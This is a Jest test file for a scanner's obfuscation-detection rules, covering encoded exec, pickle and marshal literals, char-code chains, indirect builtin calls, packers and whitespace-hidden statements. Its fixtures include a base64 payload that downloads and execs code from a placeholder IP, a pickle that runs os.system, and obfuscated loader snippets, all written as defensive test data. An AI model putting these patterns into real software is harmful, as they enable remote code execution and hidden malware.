// Obfuscation rules: encoded data reaching exec, literals decompressed in
// place, text spelled as codes, names hidden behind getattr, packers, hidden
// statements, and minified JavaScript where none belongs.
import { describe, expect, it } from '@jest/globals';
import { expectFires, expectQuiet } from '../helpers/rules';
import { hiddenRun, runEnd } from '../../packages/core/src/content/obfuscation';
import { added, file, severities } from './helpers';
import { seeded, piecesText } from '../helpers/random';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const PAYLOAD = b64(
  'import os, urllib.request\n' + 'exec(urllib.request.urlopen("http://203.0.113.9/p").read())\n'.repeat(4)
);

describe('obfuscation/encoded-exec', () => {
  it('fires critical when a decoder sits inside the exec call', () => {
    const f = added('src/pkg/util.py', `import base64\n_c = "${PAYLOAD}"\nexec(base64.b64decode(_c))`);
    expect(severities(f, 'obfuscation/encoded-exec')).toEqual(['critical']);
  });

  it('fires high when the decoded value reaches exec through a name (GuardDog exec-base64)', () => {
    const f = added('src/pkg/util.py', 'code = base64.b64decode(blob)\nprint("loading")\nexec(code)');
    expect(severities(f, 'obfuscation/encoded-exec')).toEqual(['high']);
  });

  it('fires on a process started with decoded arguments', () => {
    const found1 = added('src/pkg/run.py', 'subprocess.Popen(["python", "-c", base64.b64decode("cHJpbnQoMSk=")])');
    expectFires(found1, 'obfuscation/encoded-exec', 1);
  });

  it('is quiet on decoding and exec that never meet (Sphinx conf, data loaders)', () => {
    const conf = 'exec(open("../pkg/_version.py").read())\nlogo = base64.b64decode(LOGO_PNG)\n';
    const found2 = file('docs/conf.py', conf);
    expectQuiet(found2, 'obfuscation/encoded-exec');
  });

  it('is quiet on eval in numexpr-like code and on RegExp#exec in JavaScript', () => {
    const found3 = file(
      'pkg/expr.py',
      'def evaluate(ex, local_dict):\n    return eval(compile(ex, "<expr>", "eval"), {}, local_dict)'
    );
    expectQuiet(found3, 'obfuscation/encoded-exec');
    const found4 = file('src/parse.js', 'const m = /(\\d+)/.exec(atob(header));');
    expectQuiet(found4, 'obfuscation/encoded-exec');
  });
});

describe('obfuscation/bundled-js-payload', () => {
  it('fires when decoded data reaches child_process in a dist/ bundle', () => {
    const js = `const p = "${PAYLOAD}";\nrequire('child_process').execSync(Buffer.from(p, 'base64').toString('utf-8'));`;
    const f = added('dist/index.js', js);
    expectFires(f, 'obfuscation/bundled-js-payload');
    expect(severities(f, 'obfuscation/bundled-js-payload')).toContain('critical');
  });

  it('judges an encoded literal a change adds to a bundle high, and the same bundle in a tree scan low', () => {
    // Bundles embed data (schemas, WASM, certificates); only a change, or a rebuild, shows it is new.
    const js = `const schema = "${PAYLOAD}";\nmodule.exports = schema;`;
    expect(severities(added('dist/index.js', js), 'obfuscation/bundled-js-payload')).toEqual(['high']);
    const whole = file('dist/index.js', js);
    expect(severities(whole, 'obfuscation/bundled-js-payload')).toEqual(['low']);
    expect(whole.find((x) => x.ruleId === 'obfuscation/bundled-js-payload')?.message).toMatch(/rebuild the bundle/);
    // Decoded data run by a shell stays critical in a tree scan (tj-actions' payload).
    const exec = `const p = "${PAYLOAD}";\nrequire('child_process').execSync(Buffer.from(p, 'base64').toString('utf-8'));`;
    expect(severities(file('dist/index.js', exec), 'obfuscation/bundled-js-payload')).toContain('critical');
  });

  it('is quiet on a bundle without encoded payloads', () => {
    const found5 = added('dist/index.js', 'module.exports = function main() { return 1; };');
    expectQuiet(found5, 'obfuscation/bundled-js-payload');
  });
});

describe('obfuscation/long-encoded-literal', () => {
  it('fires low on a long base64 literal in code', () => {
    const f = added('src/pkg/x.py', `BLOB = "${PAYLOAD}"`);
    expectFires(f, 'obfuscation/long-encoded-literal', 1);
    expect(severities(f, 'obfuscation/long-encoded-literal')).toEqual(['low']);
  });

  it('is quiet on base64 images in a notebook output', () => {
    const png = 'iVBORw0KGgoAAAANSUhEUgAA' + 'Ab3Xy9+/'.repeat(60);
    const found6 = added('docs/plot.ipynb', `      "image/png": "${png}",`);
    expectQuiet(found6, 'obfuscation/long-encoded-literal');
  });
});

describe('the end of an encoded run', () => {
  it('is the first character outside base64, hex and URL-safe base64 from where it goes on, or the end', () => {
    const B64 = /[A-Za-z0-9+/_=-]/;
    const pieces = ['iVBORw0KGgo', 'AZaz09', '+/', '_-=', ' ', '"', '.', ',', 'é', '\ud83d\ude00', '\\x41', '\n', 'Q'];
    const rnd = seeded(9);
    for (let n = 0; n < 20000; n++) {
      const t = piecesText(rnd, pieces, 20);
      const from = rnd(t.length + 1);
      let end = from;
      while (end < t.length && B64.test(t[end])) end++;
      expect([t, from, runEnd(t, from)]).toEqual([t, from, end]);
    }
  });
});

describe('obfuscation/decompress-literal', () => {
  it('fires on marshal of a decompressed literal', () => {
    const f = added('src/pkg/_speedups.py', "_code = marshal.loads(zlib.decompress(b'x\\x9c\\xcb\\xc8\\x0c\\x00'))");
    expectFires(f, 'obfuscation/decompress-literal');
    expect(severities(f, 'obfuscation/decompress-literal')).toContain('high');
  });

  it('is critical for a pickle literal that names os.system', () => {
    const f = added('src/pkg/cache.py', 'obj = pickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")');
    expect(severities(f, 'obfuscation/decompress-literal')).toEqual(['critical']);
  });

  it('keeps a compatibility pickle in a test at low (astropy units)', () => {
    const t = 'unit = pickle.loads(\n    b"\\x80\\x04\\x95\\xd6\\x00\\x8c\\x12astropy.units.core\\x94"\n)';
    expect(severities(file('astropy/units/tests/test_units.py', t), 'obfuscation/decompress-literal')).toEqual(['low']);
  });

  it('is quiet when the data comes from input, not from the file (lmfit, numba)', () => {
    const found7 = file('lmfit/jsonutils.py', "out = dill.loads(b64decode(obj['value']))");
    expectQuiet(found7, 'obfuscation/decompress-literal');
    const found8 = file('tests/test_codec.py', 'assert zlib.decompress(zlib.compress(DATA)) == DATA');
    expectQuiet(found8, 'obfuscation/decompress-literal');
  });
});

describe('obfuscation/char-code-chain', () => {
  it('fires on chr() chains and fromCharCode lists that spell text', () => {
    const found9 = added('src/pkg/h.py', 'name = chr(101) + chr(120) + chr(101) + chr(99) + chr(95) + chr(95)');
    expectFires(found9, 'obfuscation/char-code-chain', 1);
    const found10 = added('src/a.js', 'const f = String.fromCharCode(114, 101, 113, 117, 105, 114, 101);');
    expectFires(found10, 'obfuscation/char-code-chain', 1);
  });

  it('fires high on escapes that spell eval (BlankOBF)', () => {
    expect(
      severities(added('src/pkg/o.py', '_____ = getattr(x, "\\145\\166\\141\\154")'), 'obfuscation/char-code-chain')
    ).toEqual(['high']);
  });

  it('is quiet on a JPEG byte literal in a test (issue 13)', () => {
    const jpeg =
      'JPEG = b"\\xff\\xd8\\xff\\xe0\\x00\\x10JFIF\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x01\\x00\\x00\\xff\\xdb\\x00\\x43"';
    const found11 = added('tests/test_io.py', jpeg);
    expectQuiet(found11, 'obfuscation/char-code-chain');
  });
});

describe('obfuscation/indirect-call', () => {
  it('fires on builtins reached through computed names', () => {
    const found12 = added('pkg/a.py', 'getattr(__builtins__, "ex" + "ec")(payload)');
    expectFires(found12, 'obfuscation/indirect-call');
    const found13 = added('pkg/b.py', 'vars(__builtins__)["eval"](src)');
    expectFires(found13, 'obfuscation/indirect-call');
    const found14 = added('pkg/c.py', 'os.__dict__["system"]("id")');
    expectFires(found14, 'obfuscation/indirect-call');
    const found15 = added('lib/d.js', "const cp = require('child_process');\ncp['sp' + 'awn']('node', ['x.js']);");
    expectFires(found15, 'obfuscation/indirect-call');
  });

  it('is quiet on ordinary dynamic imports and attribute access (numpy, dask, sympy)', () => {
    const py = [
      'module = __import__(module, globals(), locals(), [])',
      'return importlib.import_module(".".join(name.split(".")[:-1]))',
      'builtins_dict = vars(builtins)',
      'value = getattr(obj, name)',
      'globals()[name] = getattr(mod, name)'
    ].join('\n');
    const found16 = file('pkg/utils.py', py);
    expectQuiet(found16, 'obfuscation/indirect-call');
    const found17 = file('src/app.js', 'window[callbackName](data);\nconst f = handlers[event.type];');
    expectQuiet(found17, 'obfuscation/indirect-call');
  });

  it("is quiet on Python's builtins named in JavaScript, and on examples in comments and docstrings", () => {
    // A detector's own source (this suite scanning itself): the Python idioms are text in a TypeScript file.
    const ts = [
      "const why = '`vars(__builtins__)[...]` and `__import__(...)` reach a builtin by name';",
      "const re = /__import__\\('builtins'\\)\\.exec/;",
      "// `__import__('builtins').exec(…)`: the expression is the module it imports.",
      '/**',
      " * `process['sp' + 'awn'](…)`, `os[str]()`: a member called through a computed name.",
      ' */'
    ].join('\n');
    const found18 = file('packages/core/src/content/calls.ts', ts);
    expectQuiet(found18, 'obfuscation/indirect-call');
    const py = [
      'def load(name):',
      '    """Never write vars(__builtins__)["eval"](src) here."""',
      '    # os.__dict__["system"]("id") is what an attacker writes',
      '    return importlib.import_module(name)'
    ].join('\n');
    const found19 = file('pkg/loader.py', py);
    expectQuiet(found19, 'obfuscation/indirect-call');
    // The same constructs as code still fire, in the language they belong to.
    const found20 = file('pkg/loader.py', 'vars(__builtins__)["eval"](src)');
    expectFires(found20, 'obfuscation/indirect-call');
    const found21 = file('lib/run.js', "process['sp' + 'awn']('sh', ['-c', cmd]);");
    expectFires(found21, 'obfuscation/indirect-call');
  });

  it('reads no sink in a comment: an example of encoded exec is not encoded exec', () => {
    const doc = file('src/flows.ts', '// (`exec(b64decode(x))`), or through a name assigned a few lines above');
    expectQuiet(doc, 'obfuscation/encoded-exec');
    const code = file('src/pkg/run.py', 'exec(b64decode(x))');
    expectFires(code, 'obfuscation/encoded-exec', 1);
  });
});

describe('obfuscation/packer', () => {
  it('fires on PyArmor and javascript-obfuscator output', () => {
    const found18 = added(
      'src/pkg/core.py',
      "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')"
    );
    expectFires(found18, 'obfuscation/packer');
    const js =
      'const _0x1a2b3c = _0x4d5e;\n(function(_0x13c8b9, _0x35f660) {\n  while (!![]) { _0x66ea25["push"](_0x66ea25["shift"]()); }\n})(_0x4a2b, 0x46c);\nfunction _0x4d5e(_0x4a2b1c) { return _0x4a2b1c; }';
    const found19 = added('src/index.js', js);
    expectFires(found19, 'obfuscation/packer');
  });

  it('is quiet on code that merely uses hexadecimal numbers', () => {
    const found20 = file('src/colors.js', 'const mask = 0x1f;\nconst x = value & 0xff;');
    expectQuiet(found20, 'obfuscation/packer');
  });

  it("fires on Dean Edwards' packer as code, not on its text in a string or a comment (a detector's source)", () => {
    const packed = "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))";
    const code = file('static/js/vendor.js', packed);
    expectFires(code, 'obfuscation/packer', 1);
    const described = [
      "const message = 'Dean Edwards packer output (`eval(function(p,a,c,k,e,d)`).';",
      '// eval(function(p,a,c,k,e,d){ ... }) is what the packer writes'
    ].join('\n');
    const text = file('src/rules.js', described);
    expectQuiet(text, 'obfuscation/packer');
  });
});

describe('obfuscation/hidden-code', () => {
  it('fires on a statement placed after hundreds of spaces (W4SP stealer)', () => {
    const found21 = added('src/pkg/__init__.py', `print("ok")${' '.repeat(200)};__import__("os").system("id")`);
    expectFires(found21, 'obfuscation/hidden-code', 1);
  });

  it('is quiet on aligned data inside a multi-line string (sympy matrices)', () => {
    const t = `expected = '''[1,${' '.repeat(190)}0],\n[1 - x,${' '.repeat(150)}1]]'''`;
    const found22 = file('sympy/matrices/tests/test_matrices.py', t);
    expectQuiet(found22, 'obfuscation/hidden-code');
  });
});

describe('obfuscation/minified-js', () => {
  const minified = `!function(e){${'var a=function(t){return t*2};'.repeat(4000)}}();`;

  it('fires on a large minified script added outside dist/', () => {
    const f = added('src/pkg/_runtime/router.js', minified);
    expectFires(f, 'obfuscation/minified-js', 1);
    expect(severities(f, 'obfuscation/minified-js')).toEqual(['medium']);
  });

  it('is low for a vendored library and quiet inside dist/', () => {
    expect(severities(file('docs/_static/vendor/lib.min.js', minified), 'obfuscation/minified-js')).toEqual(['low']);
    const found23 = added('dist/index.js', minified);
    expectQuiet(found23, 'obfuscation/minified-js');
  });
});

describe('a statement hidden after blanks', () => {
  it('is found as the regex alone finds it, in lines of spaces, tabs and words', () => {
    const HIDDEN_RUN = /\S[ \t]{120,}(?=\S)|^[ \t]{150,}(?=\S)/;
    const pieces = [' ', '  ', '\t', ' '.repeat(30), ' '.repeat(59), '\t'.repeat(40), 'x', 'exec(a)', ';', 'é', '"'];
    const rnd = seeded(31);
    let found = 0;
    for (let n = 0; n < 20000; n++) {
      const line = piecesText(rnd, pieces, 30);
      const want = HIDDEN_RUN.exec(line);
      const got = hiddenRun(line);
      expect([line, got?.index, got?.[0]]).toEqual([line, want?.index, want?.[0]]);
      if (want) found++;
    }
    expect(found).toBeGreaterThan(2000);
  });
});
